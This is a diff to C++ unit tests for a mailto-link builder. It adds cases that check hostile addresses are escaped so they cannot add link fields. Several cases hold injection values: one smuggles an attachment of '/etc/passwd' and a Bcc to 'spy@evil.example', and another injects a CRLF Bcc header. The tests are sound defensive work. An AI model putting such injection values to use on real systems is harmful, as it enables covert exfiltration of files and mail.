@@ -15,7 +15,7 @@ struct MailCase {
   std::string url;
 };
 
-TEST(MailtoUrl, joinsTheThreePartsAndEscapesOnlyABodyOfTwoOrMoreCharacters) {
+TEST(MailtoUrl, joinsTheThreePartsEscapingTheAddressSoItAddsNoFieldsAndABodyOfTwoOrMore) {
   const std::vector<MailCase> cases = {
       {"anna@example.org", "", "", "mailto:anna@example.org?Subject=&Body="},
       {"", "", "", "mailto:?Subject=&Body="},
@@ -29,6 +29,17 @@ TEST(MailtoUrl, joinsTheThreePartsAndEscapesOnlyABodyOfTwoOrMoreCharacters) {
        "mailto:x@y?Subject=&Body=Zeile%201%0d%0aZeile%202%0d%0a"},
       {"x@y", "", "a\tb\nc", "mailto:x@y?Subject=&Body=a%09b%0ac"},
       {"x@y", "", "100% ?=\xE4\xDF", "mailto:x@y?Subject=&Body=100%%20?=\xE4\xDF"},
+      // Hostile addresses: no "?" or "#" and no control character of the
+      // address reaches the link as it is; blanks, "&", "%" and "=" stay.
+      {"x@y?attach=/etc/passwd&bcc=spy@evil.example", "", "",
+       "mailto:x@y%3fattach=/etc/passwd&bcc=spy@evil.example?Subject=&Body="},
+      {"x@y#frag", "S", "a b", "mailto:x@y%23frag?Subject=S&Body=a%20b"},
+      {"x@y\r\nBcc: spy@evil.example", "", "",
+       "mailto:x@y%0d%0aBcc: spy@evil.example?Subject=&Body="},
+      {std::string("a\0b\t\x1F\x7F", 6), "", "", "mailto:a%00b%09%1f%7f?Subject=&Body="},
+      {"?", "", "", "mailto:%3f?Subject=&Body="},
+      {"anna m\xFCller & co@x.de 100%=", "", "",
+       "mailto:anna m\xFCller & co@x.de 100%=?Subject=&Body="},
   };
   for (const MailCase& c : cases) {
     SCOPED_TRACE(c.url);
@@ -55,6 +66,10 @@ TEST(MailtoUrl, isCutTo49999Characters) {
   EXPECT_EQ(url.substr(url.size() - 16), "?Subject=&Body=x");
   url = outputs::mailtoUrl(address.substr(2), "", "x y");
   EXPECT_EQ(url.substr(url.size() - 18), "?Subject=&Body=x%2");
+
+  // So is the escaped address.
+  std::string escapedAtTheEnd(49'999 - prefix.size() - 1, 'e');
+  EXPECT_EQ(outputs::mailtoUrl(escapedAtTheEnd + "?", "S", "B"), prefix + escapedAtTheEnd + "%");
 }
 
 TEST(ComposeMail, opensTheLinkForTheEmailFieldAsItIs) {
